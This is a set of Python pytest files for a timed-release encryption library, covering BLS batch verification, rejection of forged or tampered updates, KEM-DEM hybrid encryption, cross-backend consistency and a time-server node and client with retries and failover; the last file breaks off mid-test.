        # versus 2 per update when verified one by one:
        with group.counters.measure() as ops_individual:
            for update in updates:
                assert update.verify(group, server.public_key)
        assert ops_individual.get("pairing", 0) == 2 * len(updates)


class TestForgedUpdateInLargeArchive:
    """Adversarial: one forgery hiding in a 32-update archive.

    Every batch-shaped verifier — the 2-pairing small-exponent batch,
    the per-update multi-pairing ratio check, and its process-parallel
    sharding — must catch a single forged update among 31 genuine ones,
    at every forgery position tried.
    """

    @pytest.fixture(scope="class")
    def archive32(self, group, session_rng):
        server = PassiveTimeServer(group, rng=session_rng)
        updates = [
            server.publish_update(f"archive32-{i:02d}".encode())
            for i in range(32)
        ]
        return server, updates

    @pytest.mark.parametrize("position", [0, 13, 31])
    def test_batch_verify_catches_single_forgery(
        self, group, archive32, rng, position
    ):
        server, updates = archive32
        forged = list(updates)
        forged[position] = TimeBoundKeyUpdate(
            updates[position].time_label, group.random_point(rng)
        )
        assert batch_verify_updates(group, server.public_key, updates, rng)
        assert not batch_verify_updates(group, server.public_key, forged, rng)

    @pytest.mark.parametrize("position", [0, 13, 31])
    def test_ratio_check_pinpoints_single_forgery(
        self, group, archive32, rng, position
    ):
        from repro.core.timeserver import verify_archive

        server, updates = archive32
        forged = list(updates)
        forged[position] = TimeBoundKeyUpdate(
            updates[position].time_label, group.random_point(rng)
        )
        expected = [updates[position].time_label]
        assert verify_archive(group, server.public_key, forged) == expected
        assert (
            verify_archive(group, server.public_key, forged, workers=4)
            == expected
        )

    def test_pair_ratio_is_one_on_each_update(self, group, archive32, rng):
        """The underlying primitive: per-update ê(sG,H1(T)) / ê(G,I_T)."""
        server, updates = archive32
        public = server.public_key
        bls = BLSSignatureScheme(group)
        forged_point = group.random_point(rng)
        for update in updates[:4]:
            assert group.pair_ratio_is_one(
                ((public.s_generator, bls.hash_message(update.time_label)),),
                ((public.generator, update.point),),
            )
            assert not group.pair_ratio_is_one(
                ((public.s_generator, bls.hash_message(update.time_label)),),
                ((public.generator, forged_point),),
            )

    def test_infinity_forgery_rejected(self, group, archive32, rng):
        from repro.core.timeserver import verify_archive

        server, updates = archive32
        forged = list(updates)
        forged[7] = TimeBoundKeyUpdate(updates[7].time_label, group.identity())
        assert verify_archive(group, server.public_key, forged) == [
            updates[7].time_label
        ]
        assert not batch_verify_updates(group, server.public_key, forged, rng)


class TestBatchVerifyBLS:
    def test_forged_signature_cannot_hide_behind_valid_ones(
        self, group, session_rng, rng
    ):
        keypair = ServerKeyPair.generate(group, session_rng)
        bls = BLSSignatureScheme(group)
        messages = [f"m{i}".encode() for i in range(6)]
        signatures = [bls.sign(keypair, m) for m in messages]
        assert bls.batch_verify(keypair.public, messages, signatures, rng)
        # Forge-by-cancellation attempt: shift one signature by +D and
        # another by -D. Random exponents make the shifts not cancel.
        delta = group.random_point(rng)
        cooked = list(signatures)
        cooked[0] = group.add(cooked[0], delta)
        cooked[1] = group.add(cooked[1], group.negate(delta))
        assert not bls.batch_verify(keypair.public, messages, cooked, rng)

    def test_length_mismatch_rejected(self, group, session_rng, rng):
        keypair = ServerKeyPair.generate(group, session_rng)
        bls = BLSSignatureScheme(group)
        sig = bls.sign(keypair, b"m")
        assert not bls.batch_verify(keypair.public, [b"m", b"n"], [sig], rng)
