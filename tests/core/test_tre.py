"""Functional tests for the TRE scheme (§5.1)."""

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.core.keys import UserKeyPair, UserPublicKey
from repro.core.tre import TimedReleaseScheme, TRECiphertext
from repro.crypto.rng import seeded_rng
from repro.errors import (
    EncodingError,
    KeyValidationError,
    UpdateVerificationError,
)

RELEASE = b"2027-03-01T12:00Z"


@pytest.fixture(scope="module")
def scheme(group):
    return TimedReleaseScheme(group)


class TestRoundtrip:
    def test_basic(self, scheme, group, server, user, rng):
        message = b"sealed bid: $123,456"
        ct = scheme.encrypt(message, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ct, user, update, server.public_key) == message

    def test_empty_message(self, scheme, server, user, rng):
        ct = scheme.encrypt(b"", user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ct, user, update) == b""

    def test_long_message(self, scheme, server, user, rng):
        message = bytes(range(256)) * 40
        ct = scheme.encrypt(message, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ct, user, update) == message

    def test_private_scalar_accepted_directly(self, scheme, server, user, rng):
        ct = scheme.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ct, user.private, update) == b"m"

    def test_randomized_ciphertexts(self, scheme, server, user, rng):
        c1 = scheme.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        c2 = scheme.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        assert c1.u_point != c2.u_point
        assert c1.masked != c2.masked

    def test_both_families(self, group_b, rng):
        from repro.core.timeserver import PassiveTimeServer

        scheme_b = TimedReleaseScheme(group_b)
        server_b = PassiveTimeServer(group_b, rng=rng)
        user_b = UserKeyPair.generate(group_b, server_b.public_key, rng)
        ct = scheme_b.encrypt(b"fam-B", user_b.public, server_b.public_key, RELEASE, rng)
        update = server_b.publish_update(RELEASE)
        assert scheme_b.decrypt(ct, user_b, update, server_b.public_key) == b"fam-B"

    @settings(max_examples=10, deadline=None,
              suppress_health_check=[HealthCheck.too_slow,
                                     HealthCheck.function_scoped_fixture])
    @given(message=st.binary(max_size=200), label=st.binary(min_size=1, max_size=40))
    def test_roundtrip_property(self, scheme, group, server, user, message, label):
        rng = seeded_rng(hash((message, label)) & 0xFFFF)
        ct = scheme.encrypt(message, user.public, server.public_key, label, rng)
        update = server.publish_update(label)
        assert scheme.decrypt(ct, user, update, server.public_key) == message


class TestEncryptStepOne:
    def test_malformed_receiver_key_rejected(self, scheme, group, server, rng):
        forged = UserPublicKey(group.random_point(rng), group.random_point(rng))
        with pytest.raises(KeyValidationError):
            scheme.encrypt(b"m", forged, server.public_key, RELEASE, rng)

    def test_check_can_be_skipped(self, scheme, group, server, rng):
        forged = UserPublicKey(group.random_point(rng), group.random_point(rng))
        # Skipping the check is the caller's responsibility.
        scheme.encrypt(
            b"m", forged, server.public_key, RELEASE, rng, verify_receiver_key=False
        )


class TestDecryptGuards:
    def test_mismatched_update_label_raises(self, scheme, server, user, rng):
        ct = scheme.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        other = server.publish_update(b"some-other-label")
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, user, other, server.public_key)

    def test_forged_update_raises(self, scheme, group, server, user, rng):
        from repro.core.timeserver import TimeBoundKeyUpdate

        ct = scheme.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        forged = TimeBoundKeyUpdate(RELEASE, group.random_point(rng))
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, user, forged, server.public_key)

    def test_unverified_path_returns_garbage_not_error(self, scheme, server, user, rng):
        # The bare paper scheme has no integrity: a wrong update just
        # produces a wrong mask.
        ct = scheme.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        other = server.publish_update(b"wrong")
        assert scheme.decrypt(ct, user, other) != b"m"


class TestSerialization:
    def test_ciphertext_roundtrip(self, scheme, group, server, user, rng):
        ct = scheme.encrypt(b"msg", user.public, server.public_key, RELEASE, rng)
        blob = ct.to_bytes(group)
        restored = TRECiphertext.from_bytes(group, blob)
        assert restored == ct
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(restored, user, update) == b"msg"

    def test_bad_blob_rejected(self, group):
        with pytest.raises(EncodingError):
            TRECiphertext.from_bytes(group, b"\x00\x00\x00\x01\x00\x00\x00\x00")

    def test_size_accounting(self, scheme, group, server, user, rng):
        ct = scheme.encrypt(b"x" * 32, user.public, server.public_key, RELEASE, rng)
        assert ct.size_bytes(group) == len(ct.to_bytes(group))
        # One G1 point of overhead (plus framing + label).
        assert ct.size_bytes(group) < group.point_bytes + 32 + len(RELEASE) + 32


class TestKemView:
    def test_encapsulate_decapsulate(self, scheme, server, user, rng):
        key, u_point = scheme.encapsulate(
            user.public, server.public_key, RELEASE, rng
        )
        update = server.publish_update(RELEASE)
        assert scheme.decapsulate(u_point, user, update) == key

    def test_key_length(self, scheme, server, user, rng):
        key, _ = scheme.encapsulate(
            user.public, server.public_key, RELEASE, rng, key_bytes=48
        )
        assert len(key) == 48

    def test_kem_keys_fresh(self, scheme, server, user, rng):
        k1, _ = scheme.encapsulate(user.public, server.public_key, RELEASE, rng)
        k2, _ = scheme.encapsulate(user.public, server.public_key, RELEASE, rng)
        assert k1 != k2
