"""Tests for the KEM-DEM hybrid TRE wrapper."""

import dataclasses

import pytest

from repro.core.hybrid_tre import HybridTimedReleaseScheme, HybridTRECiphertext
from repro.core.keys import UserKeyPair
from repro.errors import DecryptionError, EncodingError, UpdateVerificationError

RELEASE = b"2030-05-05T05:05Z"


@pytest.fixture(scope="module")
def hybrid(group):
    return HybridTimedReleaseScheme(group)


class TestRoundtrip:
    @pytest.mark.parametrize("size", [0, 1, 100, 10_000])
    def test_various_sizes(self, hybrid, server, user, rng, size):
        message = bytes(i % 256 for i in range(size))
        ct = hybrid.encrypt(message, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert hybrid.decrypt(ct, user, update, server.public_key) == message

    def test_serialization(self, hybrid, group, server, user, rng):
        ct = hybrid.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        assert HybridTRECiphertext.from_bytes(group, ct.to_bytes(group)) == ct

    def test_bad_blob(self, group):
        with pytest.raises(EncodingError):
            HybridTRECiphertext.from_bytes(group, b"\x00\x00\x00\x00")

    def test_overhead_constant_in_message_size(self, hybrid, group, server,
                                               user, rng):
        small = hybrid.encrypt(b"", user.public, server.public_key, RELEASE, rng)
        big = hybrid.encrypt(
            b"x" * 4096, user.public, server.public_key, RELEASE, rng
        )
        assert big.size_bytes(group) - small.size_bytes(group) == 4096


class TestAuthenticatedFailure:
    def test_wrong_update_is_loud(self, hybrid, server, user, rng):
        # Unlike bare TRE (silent garbage), the DEM MAC catches it.
        ct = hybrid.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        other = server.publish_update(b"another-epoch")
        with pytest.raises(DecryptionError):
            hybrid.decrypt(ct, user, other)

    def test_wrong_receiver_is_loud(self, hybrid, group, server, user, rng):
        ct = hybrid.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        other = UserKeyPair.generate(group, server.public_key, rng)
        with pytest.raises(DecryptionError):
            hybrid.decrypt(ct, other, update)

    def test_payload_tamper_is_loud(self, hybrid, server, user, rng):
        ct = hybrid.encrypt(b"mmmm", user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        mauled = dataclasses.replace(ct, sealed=bytes(b ^ 1 for b in ct.sealed))
        with pytest.raises(DecryptionError):
            hybrid.decrypt(mauled, user, update)

    def test_label_swap_is_loud(self, hybrid, server, user, rng):
        # The time label is bound as associated data.
        ct = hybrid.encrypt(b"m", user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        mauled = dataclasses.replace(ct, time_label=b"swapped-label")
        with pytest.raises((DecryptionError, UpdateVerificationError)):
            hybrid.decrypt(mauled, user, update, server.public_key)
