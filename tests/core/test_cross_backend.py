"""Scheme outputs must be byte-identical under every arithmetic backend.

The backend layer promises that representation changes (Montgomery
residues, gmpy2 mpz, recorded-vs-affine Miller loops) never reach the
wire: the same seeds must produce the same ciphertexts, signatures,
updates, and pairing values on every backend the box can run.  A single
diverging byte here means a receiver on one backend cannot decrypt what
a sender on another produced.
"""

import pytest

from repro.core.bls import BLSSignatureScheme
from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.timeserver import PassiveTimeServer, verify_archive
from repro.core.tre import TimedReleaseScheme
from repro.crypto.rng import seeded_rng
from repro.math.backend import available_backends
from repro.pairing.api import PairingGroup

LABEL = b"2031-05-01T00:00:00Z"
MESSAGE = b"cross-backend fixed plaintext" * 3


def _groups(params: str) -> dict[str, PairingGroup]:
    """One group per available backend (gmpy2 joins automatically when
    installed; nothing here hardcodes its presence)."""
    return {
        name: PairingGroup(params, family="A", backend=name)
        for name in available_backends()
    }


def _transcript(group: PairingGroup) -> dict[str, bytes]:
    """Run one deterministic end-to-end protocol slice, return its wires."""
    rng = seeded_rng(f"cross-backend:{group.params.name}")
    server = PassiveTimeServer(group, rng=rng)
    scheme = TimedReleaseScheme(group)
    user = UserKeyPair.generate(group, server.public_key, rng)
    update = server.publish_update(LABEL)
    ciphertext = scheme.encrypt(
        MESSAGE, user.public, server.public_key, LABEL, rng,
        verify_receiver_key=False,
    )
    plaintext = scheme.decrypt(ciphertext, user, update)
    assert plaintext == MESSAGE

    bls = BLSSignatureScheme(group)
    keypair = ServerKeyPair.generate(group, rng)
    signature = bls.sign(keypair, b"cross-backend message")
    assert bls.verify(keypair.public, b"cross-backend message", signature)

    a, b = group.random_scalar(rng), group.random_scalar(rng)
    p_point = group.mul(group.generator, a)
    q_point = group.mul(group.generator, b)
    pairing = group.pair(p_point, q_point)
    multi = group.multi_pair(
        [(p_point, q_point), (group.generator, q_point)], [1, -1]
    )
    return {
        "server_public": server.public_key.to_bytes(group),
        "update": update.to_bytes(group),
        "user_public": user.public.to_bytes(group),
        "ciphertext": ciphertext.to_bytes(group),
        "signature": group.point_to_bytes(signature),
        "pairing": pairing.to_bytes(),
        "multi_pair": multi.to_bytes(),
    }


@pytest.fixture(scope="module", params=["toy64", "ss512"])
def transcripts(request):
    return {
        name: _transcript(group)
        for name, group in _groups(request.param).items()
    }


def test_all_backends_agree_on_every_wire(transcripts):
    reference = transcripts["python"]
    assert set(reference) == {
        "server_public", "update", "user_public", "ciphertext",
        "signature", "pairing", "multi_pair",
    }
    for name, wires in transcripts.items():
        for wire, blob in reference.items():
            assert wires[wire] == blob, (
                f"backend {name!r} diverged from python on {wire!r}"
            )


def test_cross_backend_interop(group):
    """A ciphertext produced under one backend decrypts under another."""
    groups = _groups("toy64")
    rng = seeded_rng("cross-backend:interop")
    sender_group = groups["montgomery"]
    server = PassiveTimeServer(sender_group, rng=rng)
    sender = TimedReleaseScheme(sender_group)
    user = UserKeyPair.generate(sender_group, server.public_key, rng)
    ciphertext = sender.encrypt(
        MESSAGE, user.public, server.public_key, LABEL, rng,
        verify_receiver_key=False,
    )
    update = server.publish_update(LABEL)

    receiver_group = groups["python"]
    from repro.core.timeserver import TimeBoundKeyUpdate
    from repro.core.tre import TRECiphertext

    received = TRECiphertext.from_bytes(
        receiver_group, ciphertext.to_bytes(sender_group)
    )
    received_update = TimeBoundKeyUpdate.from_bytes(
        receiver_group, update.to_bytes(sender_group)
    )
    plaintext = TimedReleaseScheme(receiver_group).decrypt(
        received, user.private, received_update
    )
    assert plaintext == MESSAGE


def test_verify_archive_agrees_across_backends(session_rng):
    """The backlog verifier flags the same labels on every backend."""
    from repro.core.timeserver import TimeBoundKeyUpdate, epoch_label

    results = {}
    for name, g in _groups("toy64").items():
        rng = seeded_rng("cross-backend:archive")
        server = PassiveTimeServer(g, rng=rng)
        updates = [server.publish_update(epoch_label(e)) for e in range(6)]
        # Corrupt one update: swap in the point from a different label.
        updates[3] = TimeBoundKeyUpdate(
            time_label=updates[3].time_label, point=updates[4].point
        )
        results[name] = verify_archive(g, server.public_key, updates)
    expected = results["python"]
    assert expected == [epoch_label(3)]
    for name, failed in results.items():
        assert failed == expected, f"backend {name!r} disagreed"
