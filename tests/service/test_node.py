"""TimeServerNode: scheduling, catch-up serving, crash/restart recovery."""

import asyncio

import pytest

from repro.core.timeserver import TimeBoundKeyUpdate
from repro.errors import (
    ParameterError,
    ServiceUnavailableError,
    UpdateVerificationError,
)
from repro.service import wire
from repro.service.node import LocalNodeTransport, TimeServerNode
from repro.service.virtualtime import run_virtual


def make_node(group, keypair, **kwargs):
    kwargs.setdefault("epoch_interval", 1.0)
    return TimeServerNode(group, keypair, **kwargs)


async def ask(node, message):
    return wire.decode_message(
        await node.handle_request(wire.encode_message(message))
    )


class TestScheduling:
    def test_start_publishes_the_current_epoch(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            assert node.ready
            response = await ask(node, wire.GetUpdate(node.label_for(0)))
            return TimeBoundKeyUpdate.from_bytes(group, response.update_bytes)

        update = run_virtual(main())
        assert update.verify(group, node_keypair.public)

    def test_scheduler_publishes_each_epoch_boundary(
        self, group, node_keypair
    ):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(3.5)
            return (await ask(node, wire.GetArchive(b""))).update_blobs

        blobs = run_virtual(main())
        labels = [
            TimeBoundKeyUpdate.from_bytes(group, blob).time_label
            for blob in blobs
        ]
        assert labels == [f"epoch:{epoch:012d}".encode() for epoch in range(4)]

    def test_subscribers_receive_every_announce(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            queue = node.subscribe()
            await node.start()
            await asyncio.sleep(2.5)
            frames = []
            while not queue.empty():
                frames.append(wire.decode_message(queue.get_nowait()))
            return frames

        frames = run_virtual(main())
        assert len(frames) == 3  # epochs 0, 1, 2
        assert all(isinstance(frame, wire.Announce) for frame in frames)

    def test_future_epoch_refused_past_served_on_demand(
        self, group, node_keypair
    ):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(5.0)
            future = await ask(node, wire.GetUpdate(node.label_for(50)))
            freeform = await ask(node, wire.GetUpdate(b"the-merger-closes"))
            return future, freeform

        future, freeform = run_virtual(main())
        assert isinstance(future, wire.ErrorResponse)
        assert future.code == wire.ERR_UNAVAILABLE
        assert isinstance(freeform, wire.UpdateResponse)

    def test_clock_skew_shifts_the_epoch(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair, clock_skew=2.5)
            await node.start()
            return node.current_epoch(), node.health()["archive"]

        epoch, archive = run_virtual(main())
        assert epoch == 2
        assert archive == 3  # epochs 0..2 all backfilled at start


class TestRequestHandling:
    def test_malformed_frame_answered_not_raised(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            raw = await node.handle_request(b"\xff\xfegarbage")
            return wire.decode_message(raw)

        response = run_virtual(main())
        assert isinstance(response, wire.ErrorResponse)
        assert response.code == wire.ERR_BAD_REQUEST

    def test_health_over_the_wire(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            return (await ask(node, wire.Health())).as_dict()

        fields = run_virtual(main())
        assert fields[b"status"] == b"ok"
        assert fields[b"ready"] == b"True"

    def test_archive_since_filters(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(4.5)
            response = await ask(node, wire.GetArchive(node.label_for(1)))
            return [
                TimeBoundKeyUpdate.from_bytes(group, blob).time_label
                for blob in response.update_blobs
            ]

        labels = run_virtual(main())
        assert labels == [f"epoch:{e:012d}".encode() for e in (2, 3, 4)]


class TestCrashRestart:
    def test_crashed_node_is_unavailable(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            node.crash()
            with pytest.raises(ServiceUnavailableError):
                await node.handle_request(
                    wire.encode_message(wire.Health())
                )
            with pytest.raises(ServiceUnavailableError):
                node.snapshot()
            return node.health()

        health = run_virtual(main())
        assert health["status"] == "down"
        assert health["crashes"] == 1

    def test_restart_from_snapshot_fills_the_outage_gap(
        self, group, node_keypair
    ):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(2.2)  # epochs 0..2 published
            snapshot = node.snapshot()
            node.crash()
            await asyncio.sleep(3.0)  # outage spans epochs 3..5
            restored = await node.restart(snapshot)
            labels = [
                TimeBoundKeyUpdate.from_bytes(group, blob).time_label
                for blob in (await ask(node, wire.GetArchive(b""))).update_blobs
            ]
            return restored, labels

        restored, labels = run_virtual(main())
        assert restored == 3
        assert labels == [f"epoch:{e:012d}".encode() for e in range(6)]

    def test_restart_without_snapshot_republishes_from_zero(
        self, group, node_keypair
    ):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(2.2)
            node.crash()
            await asyncio.sleep(1.0)
            restored = await node.restart(None)
            return restored, node.health()["archive"]

        restored, archive = run_virtual(main())
        assert restored == 0
        assert archive == 4  # epochs 0..3 all re-signed

    def test_corrupt_snapshot_rejected(self, group, node_keypair):
        from repro.errors import ReproError

        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(1.2)
            snapshot = bytearray(node.snapshot())
            snapshot[-1] ^= 0x01  # flip a point byte
            node.crash()
            with pytest.raises(ReproError):
                await node.restart(bytes(snapshot))

        run_virtual(main())

    def test_foreign_snapshot_rejected(self, group, node_keypair, rng):
        """A snapshot signed by a different server must not restore."""
        from repro.core.keys import ServerKeyPair

        other = ServerKeyPair.generate(group, rng)

        async def main():
            imposter = make_node(group, other)
            await imposter.start()
            foreign = imposter.snapshot()
            node = make_node(group, node_keypair)
            await node.start()
            node.crash()
            with pytest.raises(UpdateVerificationError):
                await node.restart(foreign)

        run_virtual(main())

    def test_double_start_rejected(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            with pytest.raises(ParameterError):
                await node.start()

        run_virtual(main())

    def test_graceful_stop_keeps_archive(self, group, node_keypair):
        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            await asyncio.sleep(2.2)
            node.stop()
            await asyncio.sleep(2.0)
            await node.start()  # no snapshot needed: state survived
            return node.health()["archive"], node.crashes

        archive, crashes = run_virtual(main())
        assert archive == 5  # epochs 0..4, the stopped stretch backfilled
        assert crashes == 0


class TestLocalTransport:
    def test_latency_model_consumes_virtual_time(self, group, node_keypair):
        from repro.crypto.rng import seeded_rng
        from repro.sim.network import FixedLatency

        async def main():
            node = make_node(group, node_keypair)
            await node.start()
            transport = LocalNodeTransport(
                node, latency=FixedLatency(0.2), rng=seeded_rng(1)
            )
            loop = asyncio.get_event_loop()
            start = loop.time()
            await transport.request(wire.encode_message(wire.Health()))
            return loop.time() - start

        # one leg out + one leg back
        assert run_virtual(main()) == pytest.approx(0.4)

    def test_latency_requires_rng(self, group, node_keypair):
        from repro.sim.network import FixedLatency

        node = TimeServerNode(group, node_keypair)
        with pytest.raises(ParameterError):
            LocalNodeTransport(node, latency=FixedLatency(0.1))
