"""Fixtures for the service-layer suite.

Everything runs on :class:`~repro.service.virtualtime.VirtualTimeLoop`
with seeded RNGs — no wall clock, no real sleeping, no sockets.
"""

import pytest

from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.tre import TimedReleaseScheme
from repro.crypto.rng import seeded_rng


@pytest.fixture(scope="session")
def scheme(group) -> TimedReleaseScheme:
    return TimedReleaseScheme(group)


@pytest.fixture(scope="session")
def node_keypair(group) -> ServerKeyPair:
    """The service node's identity (distinct from the `server` fixture)."""
    return ServerKeyPair.generate(group, seeded_rng(0x5EED))


@pytest.fixture(scope="session")
def node_user(group, node_keypair) -> UserKeyPair:
    return UserKeyPair.generate(group, node_keypair.public, seeded_rng(0xFACE))
