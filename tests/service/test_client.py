"""ResilientTimeClient: timeouts, retries, failover, the verification gate."""

import asyncio

import pytest

from repro.core.timeserver import TimeBoundKeyUpdate
from repro.crypto.rng import seeded_rng
from repro.errors import (
    ParameterError,
    PermanentServiceError,
    ServiceTimeoutError,
    ServiceUnavailableError,
)
from repro.service import wire
from repro.service.client import ResilientTimeClient
from repro.service.node import LocalNodeTransport, TimeServerNode
from repro.service.retry import OPEN, Deadline, ExponentialBackoff
from repro.service.virtualtime import run_virtual


class FlakyTransport:
    """Fails the first ``failures`` requests, then delegates."""

    def __init__(self, inner, failures, exc=ServiceUnavailableError):
        self.inner = inner
        self.failures = failures
        self.exc = exc
        self.calls = 0

    async def request(self, payload):
        self.calls += 1
        if self.calls <= self.failures:
            raise self.exc("injected failure")
        return await self.inner.request(payload)


class DeadTransport:
    async def request(self, payload):
        raise ServiceUnavailableError("dead source")


class StallTransport:
    """Never answers — the per-request timeout must cut it off."""

    async def request(self, payload):
        await asyncio.sleep(10**6)
        raise AssertionError("unreachable")


class TamperTransport:
    """Corrupts the update bytes inside otherwise well-formed responses."""

    def __init__(self, inner, tampers):
        self.inner = inner
        self.tampers = tampers

    async def request(self, payload):
        raw = await self.inner.request(payload)
        if self.tampers <= 0:
            return raw
        self.tampers -= 1
        message = wire.decode_message(raw)
        if isinstance(message, wire.UpdateResponse):
            blob = bytearray(message.update_bytes)
            blob[-1] ^= 0x40
            return wire.encode_message(wire.UpdateResponse(bytes(blob)))
        if isinstance(message, wire.ArchiveResponse):
            blobs = list(message.update_blobs)
            blob = bytearray(blobs[0])
            blob[-1] ^= 0x40
            blobs[0] = bytes(blob)
            return wire.encode_message(wire.ArchiveResponse(tuple(blobs)))
        return raw


def make_client(group, keypair, transports, **kwargs):
    kwargs.setdefault("request_timeout", 0.5)
    return ResilientTimeClient(
        group, keypair.public, transports, seeded_rng(0xC11E07), **kwargs
    )


async def started_node(group, keypair, **kwargs):
    kwargs.setdefault("epoch_interval", 1.0)
    node = TimeServerNode(group, keypair, **kwargs)
    await node.start()
    return node


class TestHappyPath:
    def test_fetch_caches_and_reuses(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            label = node.label_for(0)
            first = await client.get_update(label)
            served = node.requests_served
            second = await client.get_update(label)
            return first, second, served, node.requests_served

        first, second, served, served_after = run_virtual(main())
        assert first == second
        assert served == served_after  # cache hit, no second request

    def test_requires_a_source(self, group, node_keypair):
        with pytest.raises(ParameterError):
            make_client(group, node_keypair, [])


class TestRetryAndTimeout:
    def test_transient_failures_retried_until_success(
        self, group, node_keypair
    ):
        async def main():
            node = await started_node(group, node_keypair)
            flaky = FlakyTransport(LocalNodeTransport(node), failures=4)
            client = make_client(group, node_keypair, [flaky])
            update = await client.get_update(node.label_for(0))
            return update, client.stats()

        update, stats = run_virtual(main())
        assert update.verify(group, node_keypair.public)
        assert stats["retries"] >= 4

    def test_stalled_source_hits_per_request_timeout(
        self, group, node_keypair
    ):
        async def main():
            client = make_client(
                group, node_keypair, [StallTransport()], request_timeout=0.5
            )
            deadline = Deadline.after(client._clock, 2.0)
            loop = asyncio.get_event_loop()
            start = loop.time()
            with pytest.raises(ServiceTimeoutError):
                await client.get_update(b"epoch:000000000000", deadline)
            return loop.time() - start

        # Bounded by the overall deadline, not by the stall.
        assert run_virtual(main()) <= 2.0 + 1e-9

    def test_total_timeout_bounds_the_operation(self, group, node_keypair):
        async def main():
            client = make_client(
                group,
                node_keypair,
                [DeadTransport()],
                total_timeout=3.0,
            )
            loop = asyncio.get_event_loop()
            start = loop.time()
            with pytest.raises(ServiceTimeoutError):
                await client.get_update(b"epoch:000000000000")
            return loop.time() - start

        assert run_virtual(main()) <= 3.0 + 1e-9


class TestFailover:
    def test_mirror_answers_when_primary_is_dead(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group,
                node_keypair,
                [DeadTransport(), LocalNodeTransport(node)],
            )
            update = await client.get_update(node.label_for(0))
            return update, client.stats()

        update, stats = run_virtual(main())
        assert update.verify(group, node_keypair.public)
        assert stats["failovers"] >= 1

    def test_breaker_opens_on_a_dead_primary(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group,
                node_keypair,
                [DeadTransport(), LocalNodeTransport(node)],
                failure_threshold=2,
            )
            # Each label forces a fresh sweep starting at the primary.
            for epoch in (0, 0, 0):
                client.updates.clear()
                await client.get_update(node.label_for(epoch))
            return client.breakers[0].state, client.stats()

        state, stats = run_virtual(main())
        assert state == OPEN
        assert stats["breaker_trips"] >= 1


class TestVerificationGate:
    def test_tampered_update_rejected_then_honest_retry_wins(
        self, group, node_keypair
    ):
        async def main():
            node = await started_node(group, node_keypair)
            tamper = TamperTransport(LocalNodeTransport(node), tampers=2)
            client = make_client(group, node_keypair, [tamper])
            update = await client.get_update(node.label_for(0))
            return update, client.stats()

        update, stats = run_virtual(main())
        assert update.verify(group, node_keypair.public)
        assert stats["rejected"] == 2

    def test_forged_server_never_accepted(self, group, node_keypair, rng):
        """A whole node signing under the wrong key yields nothing."""
        from repro.core.keys import ServerKeyPair

        imposter_keys = ServerKeyPair.generate(group, rng)

        async def main():
            imposter = await started_node(group, imposter_keys)
            client = make_client(
                group,
                node_keypair,  # trust anchor: the honest key
                [LocalNodeTransport(imposter)],
                total_timeout=5.0,
            )
            with pytest.raises(ServiceTimeoutError):
                await client.get_update(imposter.label_for(0))
            return client.updates, client.stats()

        cache, stats = run_virtual(main())
        assert cache == {}
        assert stats["rejected"] > 0

    def test_corrupt_announce_dropped_not_cached(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            update = node._server.lookup(node.label_for(0))
            good = wire.encode_message(
                wire.Announce(update.to_bytes(group))
            )
            bad = bytearray(good)
            bad[-1] ^= 0x20
            assert client.ingest_frame(bytes(bad)) is None
            assert client.ingest_frame(b"not a frame") is None
            assert client.ingest_frame(good) is not None
            return client.updates, client.stats()

        cache, stats = run_virtual(main())
        assert len(cache) == 1
        assert stats["rejected"] == 2

    def test_listener_lifecycle_owned_by_close(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            queue = asyncio.Queue()
            first = client.start_listening(queue)
            # A second start cancels the first listener: exactly one
            # announce consumer exists at any time.
            second = client.start_listening(queue)
            await asyncio.sleep(0)
            assert first.cancelled()
            assert not second.done()

            update = node._server.lookup(node.label_for(0))
            queue.put_nowait(
